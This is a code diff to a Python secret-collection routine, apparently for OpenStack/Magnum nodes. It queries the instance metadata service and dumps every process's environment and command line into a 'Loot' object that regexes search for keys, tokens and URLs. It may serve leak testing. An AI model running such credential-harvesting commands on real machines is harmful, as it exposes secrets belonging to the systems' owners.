@@ -31,10 +31,13 @@ PLACES = (
     "var/log/cloud-init-output.log",
     "var/log/magnum-swarm-mode.log",
 )
+# Variables that systemd and sshd number their children with.
+NOISE = ("INVOCATION_ID", "JOURNAL_STREAM", "SYSTEMD_", "WATCHDOG_", "SSH_", "XDG_")
 DEPTH = 4  # archives and encodings within each other
 LARGEST_SECRET = 255  # characters
 _BASE64 = re.compile(rb"[A-Za-z0-9+/\n ]{120,}={0,2}")
-_URL = re.compile(r"https?://[^\s\"'<>\\,\]\)}]+")
+_BLOB = re.compile(r"\S{300,}")  # packed data, which is looked into where it lies unpacked
+_URL = re.compile(r"https?://[A-Za-z0-9\[][!#-&*-;=?-\[\]^-z~]*")
 _WORD = re.compile(r"[A-Za-z0-9_\-.=+/~]{16,}")
 _IDENT = re.compile(r"\b(?:[0-9a-f]{32}|[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12})\b")
 _KEY = re.compile(
@@ -75,7 +78,11 @@ def collect(machine: Machine) -> Loot:
         "for path in meta_data.json user_data vendor_data.json network_data.json; do "
         "curl -s -m 3 http://169.254.169.254/openstack/latest/$path; done; true"
     )
-    files["environments"] = machine.run("cat /proc/[0-9]*/environ 2>/dev/null; true")
+    files["environments"] = machine.run(
+        "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -Ev '^("
+        + "|".join(NOISE)
+        + ")' ; true"
+    )
     files["command lines"] = machine.run("cat /proc/[0-9]*/cmdline 2>/dev/null; true")
     return take_apart(files)
 
@@ -85,7 +92,8 @@ def take_apart(files: dict[str, bytes]) -> Loot:
     texts = tuple(dict.fromkeys(text for content in files.values() for text in layers(content)))
     everything = "\n".join(texts)
     idents = frozenset(_IDENT.findall(everything))
-    words = set(_WORD.findall(everything)) | set(_leaves(texts))
+    unpacked = _BLOB.sub(" ", _CERTIFICATE.sub(" ", _KEY.sub(" ", everything)))
+    words = set(_WORD.findall(unpacked)) | set(_leaves(texts))
     return Loot(
         files=files,
         texts=texts,
